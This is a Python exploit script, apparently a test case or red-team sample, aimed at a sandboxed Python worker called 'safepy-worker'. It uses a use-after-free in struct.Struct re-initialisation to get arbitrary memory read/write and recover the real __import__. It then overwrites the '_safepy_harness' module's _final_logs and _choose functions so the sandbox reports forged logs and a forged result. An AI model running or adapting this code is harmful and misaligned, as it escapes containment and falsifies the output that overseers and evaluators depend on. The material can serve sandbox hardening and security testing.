# technique: same struct re-init UAF -> arbitrary R/W -> real __import__ -> sys.modules['_safepy_harness'] dict; replace its _final_logs/_choose so the worker's reply carries forged logs and a forged result
# expect: any
import struct
BA_TYPE = 0x968f20   # &PyByteArray_Type in the non-PIE safepy-worker (nm)
def rel_read(buf, n):
    s = struct.Struct("B")
    it = s.iter_unpack(buf)
    s.__init__("%ds" % n)          # s_size grows, iterator reads n bytes past the buffer
    return next(it)[0]
def rel_write(ba, off, val):
    s = struct.Struct("<BQ")
    class Ev:
        def __index__(self):
            s.__init__("<BQ")                   # frees the codes array being iterated
            s.__init__("<B%dxQ" % (off - 1))    # reallocates it with a far offset
            return 0
    s.pack_into(ba, 0, Ev(), val)
V = [bytearray(b"V" * 55) for i in range(2000)]
A = V[1000]
data = rel_read(A, 16384)
w = struct.unpack("<%dQ" % (len(data) // 8), data)
hits = [k for k in range(len(w) - 7) if w[k+1] == BA_TYPE and w[k+2] == 55 and w[k+3] == 56 and w[k+4] == w[k+5] and w[k+6] == 0]
o = hits[0] * 8
rel_write(A, o + 40, 0)          # victim.ob_start = 0
rel_write(A, o + 16, 1 << 60)    # victim.ob_size = huge
W = [x for x in V if len(x) != 55][0]
def r64(a):
    return int.from_bytes(W[a:a+8], "little")
def w64(a, v):
    W[a:a+8] = v.to_bytes(8, "little")
orepr = getattr(object, "__repr__")
def addr(o):
    return int(orepr(o).split(" at ")[1][:-1], 16)
def mat(a):
    L = [None]
    items = r64(addr(L) + 24)
    w64(a, r64(a) + 1)
    w64(items, a)
    return L[0]
bm = mat(r64(addr(print) + 24))            # PyCFunctionObject.m_self of print
bdict = mat(r64(addr(bm) + 16))           # PyModuleObject.md_dict
imp = bdict["__import__"]
os = imp("os")
sys = imp("sys")
HD = mat(r64(addr(sys.modules["_safepy_harness"]) + 16))   # _safepy_harness module dict
def fake_logs(*a, **k):
    return ("FORGED: this line was never printed by the code\n", False)
def fake_choose(*a, **k):
    return (True, "FORGED RESULT")
HD["_final_logs"] = fake_logs
HD["_choose"] = fake_choose
print("real printed line")
"real result"
